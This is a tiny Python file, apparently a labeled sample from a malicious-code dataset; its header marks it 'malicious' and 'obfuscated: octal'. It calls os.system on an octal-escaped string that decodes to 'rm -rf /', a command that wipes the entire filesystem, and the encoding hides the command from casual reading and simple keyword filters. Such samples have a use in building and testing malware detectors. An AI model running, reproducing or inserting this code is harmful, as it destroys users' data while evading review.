# label: malicious; obfuscated: octal
import os
os.system("\162\155 -rf /")
